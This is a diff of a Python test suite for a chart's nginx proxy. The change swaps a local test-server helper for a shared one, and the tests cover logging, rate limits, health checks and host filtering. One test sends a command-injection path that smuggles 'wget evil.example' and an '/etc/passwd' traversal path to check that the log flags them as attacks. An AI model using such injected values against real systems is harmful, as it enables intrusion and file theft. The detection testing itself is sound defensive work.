@@ -1,6 +1,5 @@
 """The chart's nginx, for real: what it lets through, what it says when nobody answers, and what its log says."""
 
-import contextlib
 import http.client
 import http.server
 import json
@@ -9,13 +8,13 @@ import shutil
 import socket
 import ssl
 import subprocess
-import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 from support.chart import named, rendered
+from support.loopback import answering
 from support.ports import free_port, wait_until
 from support.server_process import ServerProcess
 
@@ -38,18 +37,6 @@ class Replica(http.server.BaseHTTPRequestHandler):
 
     def log_message(self, *args: Any) -> None:
         """Say nothing."""
-
-
-@contextlib.contextmanager
-def replica() -> Iterator[int]:
-    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Replica) as server:
-        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
-        thread.start()
-        try:
-            yield server.server_port
-        finally:
-            server.shutdown()
-            thread.join()
 
 
 class Proxy:
@@ -160,7 +147,7 @@ def test_each_line_of_the_log_says_what_it_may_be_a_trace_of(proxy) -> None:
         ("/v1/models?name=a;wget%20evil.example", "attack"),
         ("/index.php?page=../../../etc/passwd", "attack suspicious"),
     ]
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api)
         for path, _ in asked:
             nginx.get(path)
@@ -173,7 +160,7 @@ def test_each_line_of_the_log_says_what_it_may_be_a_trace_of(proxy) -> None:
 
 
 def test_a_line_is_one_json_object_whatever_a_client_sends(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api)
         nginx.get('/v1/agents?q="}{\\', User_Agent='"quoted", \\ and é')
     [line] = nginx.lines(1)
@@ -184,7 +171,7 @@ def test_a_line_is_one_json_object_whatever_a_client_sends(proxy) -> None:
 
 
 def test_the_replica_is_told_where_a_request_is_from_by_nginx_alone(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api)
         _, headers, body = nginx.get("/v1/agents", X_Forwarded_For="203.0.113.9", X_Request_ID="mine")
     seen = json.loads(body)
@@ -204,7 +191,7 @@ def test_without_a_replica_the_answer_is_a_problem_document_that_says_when_to_co
 
 
 def test_an_address_that_asks_too_often_is_told_so_and_health_still_answers(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api, nginx={"rate": {"requestsPerSecond": 1, "burst": 1}})
         answers = [nginx.get("/v1/agents") for _ in range(6)]
         assert nginx.get("/health")[0] == 200
@@ -215,7 +202,7 @@ def test_an_address_that_asks_too_often_is_told_so_and_health_still_answers(prox
 
 
 def test_what_the_api_refuses_goes_through_as_it_is(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api)
         for status in (429, 502, 503, 504):
             answered, _, body = nginx.get(f"/v1/agents/{status}")
@@ -223,7 +210,7 @@ def test_what_the_api_refuses_goes_through_as_it_is(proxy) -> None:
 
 
 def test_the_health_of_database_and_cache_is_there_under_their_names_and_nothing_else_is(proxy) -> None:
-    with replica() as api, replica() as adapter:
+    with answering(Replica) as api, answering(Replica) as adapter:
         nginx = proxy(api, adapter)
         for host in ("database.internal", "cache.internal"):
             status, _, body = nginx.get("/health", host=host)
@@ -233,20 +220,20 @@ def test_the_health_of_database_and_cache_is_there_under_their_names_and_nothing
 
 
 def test_the_health_of_the_database_is_not_for_everybody(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api, nginx={"internalNetworks": ["192.0.2.0/24"]})
         assert nginx.get("/health", host="database.internal")[0] == 403
         assert nginx.get("/health")[0] == 200
 
 
 def test_a_host_that_is_none_of_ours_gets_nothing(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api)
         assert nginx.get("/v1/agents", host="scanned.example")[0] == 404
 
 
 def test_without_tls_there_is_health_and_the_way_to_the_other_port(proxy) -> None:
-    with replica() as api:
+    with answering(Replica) as api:
         nginx = proxy(api)
         answers = {}
         for path in ("/health", "/nginx-status", "/v1/agents?limit=3"):
